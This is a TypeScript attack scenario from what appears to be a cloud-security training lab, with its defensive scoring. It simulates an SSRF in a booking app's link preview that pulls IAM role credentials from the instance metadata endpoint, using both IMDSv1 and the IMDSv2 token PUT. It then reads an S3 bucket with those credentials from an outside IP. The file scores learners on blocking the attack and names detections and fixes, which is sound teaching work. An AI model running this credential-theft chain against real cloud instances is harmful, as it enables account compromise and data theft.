// The booking app's "link preview" fetches any URL a visitor gives it (SSRF). The attacker points it
// at the instance metadata service for the web role's credentials, then uses them from outside to
// read the bookings bucket. The app runs in a container on a bridge network (two hops from IMDS);
// nginx's side of the app proxies from the host itself (one hop).
//  A: a GET-only SSRF (no chosen headers): IMDSv1, refused when HttpTokens is required;
//  B: an SSRF whose method and headers the attacker chooses: the IMDSv2 token PUT then GET, from the
//     container, whose PUT gets no answer when the hop limit is 1.
// Blocked when no variant obtained credentials.
import { S3Client, ListObjectsV2Command, GetObjectCommand } from '@aws-sdk/client-s3';
import type { AttackStep, Scenario, ScenarioResult } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import type { AwsCredentials } from '../src/cloud/labcloud.ts';
import type { ImdsResponse } from '../src/cloud/services/ec2/imds.ts';
import { attempt } from './lib/attack.ts';
import { hostEnv } from '../labs/host/company.ts';
import { NO_SERVER, webInstance } from '../labs/host/server.ts';
import { recordStep, rogueIp } from './lib/host-cloud.ts';

const IMDS = 'http://169.254.169.254';
const CREDS_PATH = '/latest/meta-data/iam/security-credentials/';

interface Variant { id: string; label: string; hops: number; chooseHeaders: boolean }
const VARIANTS: Variant[] = [
  { id: 'A-container', label: 'GET-only SSRF from the app container (2 hops)', hops: 2, chooseHeaders: false },
  { id: 'A-proxy', label: "GET-only SSRF through nginx's proxy on the host (1 hop)", hops: 1, chooseHeaders: false },
  { id: 'B-container', label: 'SSRF with chosen method and headers from the app container (2 hops): IMDSv2 token PUT, then GET', hops: 2, chooseHeaders: true },
];

interface State {
  ip: string;
  instanceId?: string;
  start: number;
  /** Variants that obtained the role's credentials (variant id -> access key id). */
  got: { variant: string; accessKeyId: string }[];
  outcomes: string[];
  s3Read: boolean;
}

/** What a status 0 or an HTTP error means for the attacker. */
function codeOf(r: ImdsResponse): string | undefined {
  if (r.status === 200) return undefined;
  if (r.status === 0) return 'NoResponse';
  return `HTTP${r.status}`;
}

export const imdsSsrfScenario: Scenario = {
  id: 'imds-ssrf',
  title: "SSRF in the booking app reads the web server's role credentials from instance metadata",
  description: 'The booking app\'s link preview fetches any URL. The attacker points it at http://169.254.169.254/latest/meta-data/iam/security-credentials/ — as a plain GET (IMDSv1), and with a chosen method and headers (the IMDSv2 token PUT) from the app\'s container — then uses any credentials it returns from outside to read the bookings bucket.',
  techniques: ['T1190', 'T1552.005', 'T1078.004', 'T1530'],
  detections: [
    'GuardDuty: UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
    'GuardDuty: UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS',
  ],
  points: { blocked: 10 },
  tasks: { blocked: 'launch' },
  async prepare(s: LabSession): Promise<State> {
    return { ip: rogueIp(s), start: s.now(), got: [], outcomes: [], s3Read: false };
  },
  async inject(s, state) {
    const st = state as State;
    const steps: AttackStep[] = [];
    st.start = s.now();
    const web = await webInstance(s);
    st.instanceId = web?.instance.InstanceId;
    if (!st.instanceId) return steps;
    const imds = s.gateway.service('ec2').imds;
    const account = s.accountId;
    const instanceId = st.instanceId;
    let creds: AwsCredentials | undefined;

    const fetch = async (v: Variant, what: string, path: string, opts: { method?: string; headers?: Record<string, string> } = {}): Promise<ImdsResponse> => {
      const at = s.now();
      const r = await imds.ssrf(account, instanceId, `${IMDS}${path}`, { hops: v.hops, ...opts });
      const code = codeOf(r);
      // 401 (no token), 403 (endpoint disabled) and no answer (hop limit) are IMDS's controls; 404 (no role) is not a refusal.
      steps.push(recordStep(s, `${v.label}: ${what} (${opts.method ?? 'GET'} ${path})`, r.status === 200 || r.status === 404, code, at));
      return r;
    };

    for (const v of VARIANTS) {
      const headers: Record<string, string> = {};
      if (v.chooseHeaders) {
        const put = await fetch(v, 'IMDSv2 session token', '/latest/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '21600' } });
        if (put.status !== 200) {
          st.outcomes.push(`${v.label}: the token PUT got ${put.status ? `HTTP ${put.status}` : 'no answer (the hop limit dropped it)'}`);
          continue;
        }
        headers['X-aws-ec2-metadata-token'] = put.body.trim();
      }
      const list = await fetch(v, 'the role name', CREDS_PATH, { headers });
      if (list.status !== 200) {
        st.outcomes.push(`${v.label}: ${list.status === 401 ? 'refused, IMDSv2 required (HTTP 401)' : list.status ? `HTTP ${list.status}` : 'no answer'}`);
        continue;
      }
      const role = list.body.split('\n').map((x) => x.trim()).find(Boolean);
      if (!role) {
        st.outcomes.push(`${v.label}: no role listed`);
        continue;
      }
      const got = await fetch(v, `the credentials of ${role}`, `${CREDS_PATH}${role}`, { headers });
      let parsed: { AccessKeyId?: string; SecretAccessKey?: string; Token?: string } = {};
      try { parsed = JSON.parse(got.body) as typeof parsed; } catch { /* not credentials */ }
      if (got.status === 200 && parsed.AccessKeyId && parsed.SecretAccessKey) {
        creds = { accessKeyId: parsed.AccessKeyId, secretAccessKey: parsed.SecretAccessKey, ...(parsed.Token ? { sessionToken: parsed.Token } : {}) };
        st.got.push({ variant: v.id, accessKeyId: parsed.AccessKeyId });
        st.outcomes.push(`${v.label}: got the credentials of ${role} (${parsed.AccessKeyId})`);
      } else {
        st.outcomes.push(`${v.label}: ${got.status === 200 ? 'no credentials in the answer' : `HTTP ${got.status}`}`);
      }
    }

    if (creds) {
      // From the attacker's own machine, outside AWS: the role's credentials read the bookings bucket.
      const env = hostEnv(s.env);
      const s3 = s.client(S3Client, { credentials: creds, sourceIp: st.ip });
      let key: string | undefined;
      steps.push(await attempt(s, `from ${st.ip}: list the bookings bucket with the stolen role credentials`, async () => {
        key = (await s3.send(new ListObjectsV2Command({ Bucket: env.bucket }))).Contents?.[0]?.Key;
      }));
      if (key) {
        const read = await attempt(s, `from ${st.ip}: read s3://${env.bucket}/${key} with the stolen role credentials`, async () => {
          await (await s3.send(new GetObjectCommand({ Bucket: env.bucket, Key: key }))).Body?.transformToString();
        });
        steps.push(read);
        st.s3Read = read.allowed && !read.errorCode;
      }
    }
    return steps;
  },
  async observe(s, steps, state): Promise<ScenarioResult> {
    const st = state as State;
    if (!st.instanceId) {
      return { blocked: false, detected: false, steps, evidence: [], feedback: `${NO_SERVER(s)}; the SSRF attack needs the web server to judge its metadata options (task launch)` };
    }
    const log = (await s.gateway.service('ec2').imds.accessLog(s.accountId, st.instanceId)).filter((a) => Date.parse(a.at) >= st.start - 1000);
    const evidence = log.slice(0, 20).map((a) => `${a.at} IMDS ${a.method} ${a.path} → ${a.status || 'no answer'} (IMDSv${a.version === '2.0' ? 2 : 1}, ${a.hops} hop${a.hops > 1 ? 's' : ''})${a.accessKeyId ? `: handed out ${a.accessKeyId}` : ''}`);
    const blocked = st.got.length === 0;
    const feedback = blocked
      ? `the SSRF got no credentials from ${st.instanceId}'s metadata service: ${st.outcomes.join('; ')}`
      : `the SSRF read the web role's credentials from ${st.instanceId}'s metadata service (${st.got.map((g) => g.variant).join(', ')})${st.s3Read ? ' and the attacker read the bookings bucket with them from outside' : ''}: ${st.outcomes.join('; ')} — `
        + [
          st.got.some((g) => g.variant.startsWith('A')) ? 'require IMDSv2 (MetadataOptions HttpTokens "required"): a GET-only SSRF then gets 401' : '',
          st.got.some((g) => g.variant.startsWith('B')) ? 'set HttpPutResponseHopLimit 1: the token PUT from the app\'s container then gets no answer' : '',
        ].filter(Boolean).join('; ') + ' (ModifyInstanceMetadataOptions on the running instance, or MetadataOptions at launch; task launch)';
    return { blocked, detected: false, steps, evidence, feedback };
  },
};
